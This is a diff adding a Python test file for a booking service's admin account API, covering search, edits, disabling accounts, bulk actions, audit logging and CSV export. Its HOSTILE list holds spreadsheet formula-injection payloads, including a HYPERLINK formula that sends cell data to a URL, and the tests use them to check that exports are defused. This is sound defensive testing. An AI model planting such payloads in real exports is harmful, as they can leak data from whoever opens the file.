@@ -1,0 +1,364 @@
+"""What admins do to accounts."""
+
+import csv
+from collections.abc import Mapping
+from dataclasses import replace
+from datetime import timedelta
+from io import StringIO
+from typing import Any
+from uuid import uuid4
+
+import pytest
+from tests.unit.entrypoints.api import PASSWORD, Api, assert_problem, through_the_api
+
+from booking_domain.shared.actor import Role
+from booking_domain.shared.audit import AuditEntry, AuditFilter
+from booking_domain.testing.builders import Builder
+from entrypoints.http.administration import export
+from entrypoints.http.administration.export import PAGE
+
+DISABLED = {"status": "disabled", "reason": "abuse"}
+
+
+async def joined(api: Api, name: str = "Dorj", role: str = "customer", **more: Any) -> dict[str, Any]:
+    """A new account: its id and its tokens."""
+    who = {"email": f"{uuid4().hex}@example.com", "password": PASSWORD, "name": name, "role": role, **more}
+    answer = await api.post("/auth/register", json=who)
+    assert answer.status_code == 201, answer.text
+    return {**answer.json(), "id": answer.json()["user"]["id"]}
+
+
+async def my_id(api: Api, token: str) -> str:
+    return str((await api.get("/auth/me", token)).json()["id"])
+
+
+async def may_stay(api: Api, account: Mapping[str, Any]) -> bool:
+    """Whether the account's refresh token is good."""
+    answer = await api.post("/auth/refresh", json={"refreshToken": account["refreshToken"]})
+    if answer.status_code != 200:
+        assert_problem(answer, 401, "auth.invalid_token")
+    return answer.status_code == 200
+
+
+async def entries(api: Api, **chosen: Any) -> list[AuditEntry]:
+    """What admins have done, without what they have read, the first first."""
+    found = await api.database.reads.audit_entries(AuditFilter(limit=10_000, **chosen))
+    return [entry for entry in found if entry.action not in {"read", "user.made"}][::-1]
+
+
+async def listed(api: Api, admin: str, query: str) -> list[str]:
+    answer = await api.get(f"/admin/users?{query}", admin)
+    assert answer.status_code == 200, answer.text
+    return [user["name"] for user in answer.json()["items"]]
+
+
+@through_the_api
+async def test_accounts_are_found_by_what_is_known_of_them(api: Api) -> None:
+    admin = await api.an_admin()
+    await joined(api, "Болд", phone="9911 2233")
+    api.clock.advance(timedelta(minutes=10))
+    await joined(api, "Anna", "provider", email="anna@example.org")
+    for query, names in (
+        ("", ["Anna", "Болд", "Admin"]),
+        ("role=provider", ["Anna"]),
+        ("role=customer&status=active", ["Болд"]),
+        ("status=disabled", []),
+        ("q=ANNA%40", ["Anna"]),
+        ("q=болд", ["Болд"]),
+        ("q=9911-2233", ["Болд"]),
+        ("q=%2B97699112233", ["Болд"]),
+        ("q=99112234", []),
+        ("createdFrom=2026-11-23T00:10:00Z", ["Anna"]),
+        ("createdTo=2026-11-23T00:10:00Z", ["Болд", "Admin"]),
+        ("createdTo=2026-11-23", []),
+    ):
+        assert await listed(api, admin, query) == names, query
+    for wrong in ("role=system", "status=gone", "q=", "limit=0", "createdFrom=yesterday-ish", "cursor=x", "name=Anna"):
+        assert (await api.get(f"/admin/users?{wrong}", admin)).status_code == 400, wrong
+
+
+@through_the_api
+async def test_accounts_are_read_page_by_page(api: Api) -> None:
+    admin = await api.an_admin()
+    for number in range(4):
+        await joined(api, f"Someone {number}")
+    first = (await api.get("/admin/users?limit=3", admin)).json()
+    rest = (await api.get(f"/admin/users?limit=3&cursor={first['nextCursor']}", admin)).json()
+    assert [len(first["items"]), len(rest["items"]), rest["nextCursor"]] == [3, 2, None]
+    assert len({user["id"] for user in first["items"] + rest["items"]}) == 5
+
+
+@through_the_api
+async def test_an_admin_sees_one_account_and_no_secret_of_it(api: Api) -> None:
+    admin, dorj = await api.an_admin(), await joined(api, phone="+97699112233")
+    answer = await api.get(f"/admin/users/{dorj['id']}", admin)
+    assert answer.headers["ETag"] == '"1"'
+    assert answer.json() == {
+        "id": dorj["id"],
+        "name": "Dorj",
+        "givenName": None,
+        "familyName": None,
+        "email": dorj["user"]["email"],
+        "phone": "+97699112233",
+        "role": "customer",
+        "status": "active",
+        "locale": "en",
+        "timeZone": "Asia/Ulaanbaatar",
+        "createdAt": "2026-11-23T00:00:00Z",
+        "emailVerifiedAt": None,
+        "phoneVerifiedAt": None,
+        "version": 1,
+    }
+    assert_problem(await api.get(f"/admin/users/{uuid4()}", admin), 404, "user.not_found")
+
+
+@through_the_api
+async def test_a_change_is_kept_and_says_what_was_changed_and_nothing_personal(api: Api) -> None:
+    admin, dorj = await api.an_admin(), await joined(api, "Dorj Before")
+    change = {"name": "Dorj After", "locale": "mn", "timeZone": "Europe/Berlin", "role": "customer"}
+    answer = await api.patch(f"/admin/users/{dorj['id']}", admin, json=change, headers={"If-Match": '"1"'})
+    assert answer.status_code == 200, answer.text
+    assert answer.headers["ETag"] == '"2"'
+    assert {name: answer.json()[name] for name in change} == change
+    (entry,) = await entries(api)
+    assert (entry.action, entry.subject and str(entry.subject.id)) == ("user.changed", dorj["id"])
+    assert str(entry.actor.id) == await my_id(api, admin)
+    assert entry.details == {
+        "changed": ["locale", "name", "time_zone"],
+        "before": {"locale": "en", "time_zone": "Asia/Ulaanbaatar"},
+        "after": {"locale": "mn", "time_zone": "Europe/Berlin"},
+    }
+    assert "Dorj" not in repr(entry)
+    assert await may_stay(api, dorj)
+
+
+@through_the_api
+async def test_a_change_of_what_was_changed_meanwhile_is_refused(api: Api) -> None:
+    admin, dorj = await api.an_admin(), await joined(api)
+    path = f"/admin/users/{dorj['id']}"
+    assert (await api.patch(path, admin, json={"name": "One"}, headers={"If-Match": '"1"'})).status_code == 200
+    refused = await api.patch(path, admin, json={"name": "Two"}, headers={"If-Match": '"1"'})
+    assert_problem(refused, 412, "conflict.stale_version")
+    assert (await api.get(path, admin)).json()["name"] == "One"
+
+
+@through_the_api
+async def test_what_is_so_already_makes_no_new_version(api: Api) -> None:
+    admin, dorj = await api.an_admin(), await joined(api)
+    answer = await api.patch(f"/admin/users/{dorj['id']}", admin, json={"name": "Dorj", "status": "active"})
+    assert answer.headers["ETag"] == '"1"'
+    assert [entry.action for entry in await entries(api)] == ["user.manage"]
+
+
+@through_the_api
+async def test_what_breaks_a_rule_is_refused(api: Api) -> None:
+    admin, dorj = await api.an_admin(), await joined(api)
+    for change, pointer in (
+        ({"status": "disabled"}, "/reason"),
+        ({"reason": "abuse"}, "/reason"),
+        ({"status": "active", "reason": "abuse"}, "/reason"),
+        ({"timeZone": "Mars/Olympus"}, "/timeZone"),
+        ({"name": " "}, "/name"),
+    ):
+        answer = await api.patch(f"/admin/users/{dorj['id']}", admin, json=change)
+        assert (answer.status_code, [error["pointer"] for error in answer.json()["errors"]]) == (422, [pointer])
+    assert await entries(api) == []
+
+
+@through_the_api
+async def test_what_nobody_can_have_set_is_refused(api: Api) -> None:
+    admin, dorj = await api.an_admin(), await joined(api)
+    for change in (
+        {"role": "system"},
+        {"status": "deleted"},
+        {"locale": "mn\nx"},
+        {"status": "disabled", "reason": "because of +97699112233"},
+        {"email": "new@example.com"},
+        {"version": 9},
+        {"id": str(uuid4())},
+        {"passwordHash": "x"},
+        {"createdAt": "2020-01-01T00:00:00Z"},
+    ):
+        answer = await api.patch(f"/admin/users/{dorj['id']}", admin, json=change)
+        assert answer.status_code == 400, change
+    assert (await api.get(f"/admin/users/{dorj['id']}", admin)).json()["version"] == 1
+
+
+@through_the_api
+async def test_a_disabled_account_is_signed_out_at_once_and_back_when_it_is_enabled(api: Api) -> None:
+    admin, dorj, other = await api.an_admin(), await joined(api), await joined(api)
+    login = {"email": dorj["user"]["email"], "password": PASSWORD}
+    assert (await api.patch(f"/admin/users/{dorj['id']}", admin, json=DISABLED)).json()["status"] == "disabled"
+    assert not await may_stay(api, dorj)
+    assert await may_stay(api, other)
+    assert_problem(await api.post("/auth/login", json=login), 403, "auth.account_disabled")
+    # The documented bound: its access token is good for the rest of its half hour, and no longer.
+    assert (await api.get("/auth/me", dorj["accessToken"])).status_code == 200
+    assert_problem(await api.get("/auth/sessions", dorj["accessToken"]), 401, "auth.invalid_token")
+    api.clock.advance(timedelta(minutes=30))
+    assert_problem(await api.get("/auth/me", dorj["accessToken"]), 401, "auth.invalid_token")
+    admin = await api.an_admin()
+    assert (await api.patch(f"/admin/users/{dorj['id']}", admin, json={"status": "active"})).status_code == 200
+    assert (await api.post("/auth/login", json=login)).status_code == 200
+    told = [(entry.action, entry.details.get("reason")) for entry in await entries(api)]
+    assert told == [("user.disabled", "abuse"), ("user.enabled", None)]
+
+
+@through_the_api
+async def test_another_role_is_had_after_signing_in_again(api: Api) -> None:
+    admin, dorj = await api.an_admin(), await joined(api)
+    assert (await api.patch(f"/admin/users/{dorj['id']}", admin, json={"role": "manager"})).status_code == 200
+    assert not await may_stay(api, dorj)
+    login = {"email": dorj["user"]["email"], "password": PASSWORD}
+    assert (await api.post("/auth/login", json=login)).json()["user"]["role"] == "manager"
+    (entry,) = await entries(api)
+    assert entry.details == {"changed": ["role"], "before": {"role": "customer"}, "after": {"role": "manager"}}
+
+
+@through_the_api
+async def test_nobody_disables_or_demotes_themselves(api: Api) -> None:
+    admin = await api.an_admin()
+    me = await my_id(api, admin)
+    for change in (DISABLED, {"role": "customer"}):
+        assert_problem(await api.patch(f"/admin/users/{me}", admin, json=change), 403, "user.own_account")
+    bulk = {"ids": [me], "action": "disable", "reason": "requested"}
+    assert_problem(await api.post("/admin/users/bulk", admin, json=bulk), 403, "user.own_account")
+    assert (await api.patch(f"/admin/users/{me}", admin, json={"name": "Me"})).json()["role"] == "admin"
+
+
+@pytest.mark.parametrize("change", [DISABLED, {"role": "customer"}])
+@through_the_api
+async def test_who_was_an_admin_administers_no_more_whatever_their_token_says(api: Api, change: dict[str, str]) -> None:
+    admin, other, dorj = await api.an_admin(), await api.an_admin(), await joined(api)
+    them = await my_id(api, other)
+    assert (await api.patch(f"/admin/users/{them}", admin, json=change)).status_code == 200
+    for method, path, body in (
+        ("PATCH", f"/admin/users/{them}", {"role": "admin", "status": "active"}),
+        ("PATCH", f"/admin/users/{dorj['id']}", {"role": "admin"}),
+        ("POST", "/admin/users/bulk", {"ids": [dorj["id"]], "action": "end_sessions"}),
+        ("DELETE", f"/admin/users/{dorj['id']}/sessions", None),
+    ):
+        more = {} if body is None else {"json": body}
+        assert_problem(await api.call(method, path, other, **more), 403, "auth.not_permitted")
+    assert await may_stay(api, dorj)
+
+
+@through_the_api
+async def test_an_admin_signs_somebody_out_everywhere(api: Api) -> None:
+    admin, dorj, other = await api.an_admin(), await joined(api), await joined(api)
+    login = {"email": dorj["user"]["email"], "password": PASSWORD}
+    second = (await api.post("/auth/login", json=login)).json()
+    assert (await api.delete(f"/admin/users/{dorj['id']}/sessions", admin)).status_code == 204
+    assert [await may_stay(api, each) for each in (dorj, second, other)] == [False, False, True]
+    assert_problem(await api.delete(f"/admin/users/{uuid4()}/sessions", admin), 404, "user.not_found")
+    (entry,) = await entries(api)
+    assert (entry.action, entry.subject and str(entry.subject.id)) == ("user.end_sessions", dorj["id"])
+    assert (await api.post("/auth/login", json=login)).status_code == 200
+
+
+@through_the_api
+async def test_one_thing_is_done_to_many_or_to_none(api: Api) -> None:
+    admin = await api.an_admin()
+    people = [await joined(api) for _ in range(3)]
+    ids = [each["id"] for each in people]
+
+    async def bulk(**body: Any) -> Any:
+        return await api.post("/admin/users/bulk", admin, json=body)
+
+    missing = await bulk(ids=[*ids, str(uuid4())], action="disable", reason="fraud")
+    assert_problem(missing, 404, "user.not_found")
+    mine = await bulk(ids=[*ids, await my_id(api, admin)], action="disable", reason="fraud")
+    assert_problem(mine, 403, "user.own_account")
+    assert [await may_stay(api, each) for each in people] == [True] * 3
+    assert await entries(api) == []
+
+    people = [await joined(api) for _ in range(3)]
+    ids = [each["id"] for each in people]
+    assert (await bulk(ids=ids[:1], action="disable", reason="fraud")).json() == {"changed": 1}
+    assert (await bulk(ids=ids, action="disable", reason="fraud")).json() == {"changed": 2}
+    assert [await may_stay(api, each) for each in people] == [False] * 3
+    assert (await bulk(ids=ids, action="enable")).json() == {"changed": 3}
+    assert (await bulk(ids=ids, action="enable")).json() == {"changed": 0}
+    assert (await bulk(ids=ids, action="end_sessions")).json() == {"changed": 0}
+    told = [(entry.action, entry.subject and str(entry.subject.id)) for entry in await entries(api)]
+    assert sorted(told, key=str) == sorted(
+        [("user.bulk", None)]
+        + [(action, each) for action in ("user.disabled", "user.enabled", "user.end_sessions") for each in ids],
+        key=str,
+    )
+
+
+@through_the_api
+async def test_many_are_named_once_and_are_not_too_many(api: Api) -> None:
+    admin, one = await api.an_admin(), str(uuid4())
+    for body, status in (
+        ({"ids": [], "action": "enable"}, 400),
+        ({"ids": [str(uuid4()) for _ in range(101)], "action": "enable"}, 400),
+        ({"ids": ["x"], "action": "enable"}, 400),
+        ({"ids": [one], "action": "delete"}, 400),
+        ({"ids": [one, one], "action": "enable"}, 422),
+        ({"ids": [one], "action": "disable"}, 422),
+        ({"ids": [one], "action": "end_sessions", "reason": "abuse"}, 422),
+        ({"ids": [str(uuid4()) for _ in range(100)], "action": "enable"}, 404),
+    ):
+        assert (await api.post("/admin/users/bulk", admin, json=body)).status_code == status, body
+
+
+@through_the_api
+async def test_the_same_bulk_under_one_key_is_done_once(api: Api) -> None:
+    admin, dorj = await api.an_admin(), await joined(api)
+    body = {"ids": [dorj["id"]], "action": "end_sessions"}
+    first, second = [
+        await api.post("/admin/users/bulk", admin, json=body, headers={"Idempotency-Key": "k"}) for _ in range(2)
+    ]
+    assert (first.status_code, first.json()) == (200, {"changed": 1})
+    assert (second.status_code, second.content) == (200, first.content)
+    assert (second.headers["Idempotency-Replayed"], len(await entries(api))) == ("true", 1)
+
+
+HOSTILE = ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\r=1+1", '=HYPERLINK("http://x?"&A1)', 'a,"b"', "ж\n=1", "'=1")
+
+
+async def exported(api: Api) -> str:
+    """The file about people who have such names."""
+    admin, make = await api.an_admin(), Builder(seed=7)
+    async with api.database.begin() as tx:
+        for name in HOSTILE:
+            await tx.users.add(replace(make.user(), name=name))
+    answer = await api.get("/admin/users/export?role=customer", admin)
+    assert answer.headers["Content-Type"].startswith("text/csv")
+    assert answer.headers["Content-Disposition"] == 'attachment; filename="users.csv"'
+    assert answer.text.endswith("\r\n")
+    return answer.text
+
+
+def formulas(file: str) -> list[str]:
+    rows = list(csv.reader(StringIO(file, newline="")))
+    assert rows[0][:5] == ["id", "name", "email", "phone", "role"]
+    assert sorted(row[1].removeprefix("'") for row in rows[1:]) == sorted(name.removeprefix("'") for name in HOSTILE)
+    return [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+
+
+@through_the_api
+async def test_an_export_computes_nothing_in_a_spreadsheet(api: Api) -> None:
+    file = await exported(api)
+    assert formulas(file) == []
+    assert file.count(",'+976") == len(HOSTILE)
+
+
+@through_the_api
+async def test_an_export_that_is_not_defused_is_found(api: Api, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(export, "defused", str)
+    assert len(formulas(await exported(api))) == 7 + len(HOSTILE)
+
+
+@through_the_api
+async def test_an_export_has_everybody_who_is_asked_for(api: Api) -> None:
+    admin, make, there = await api.an_admin(), Builder(seed=7), 0
+    for exactly in (PAGE - 1, PAGE, PAGE + 1):
+        async with api.database.begin() as tx:
+            for _ in range(exactly - there):
+                await tx.users.add(make.user(Role.PROVIDER))
+        there = exactly
+        rows = list(csv.DictReader(StringIO((await api.get("/admin/users/export?role=provider", admin)).text)))
+        assert len({row["id"] for row in rows}) == len(rows) == exactly
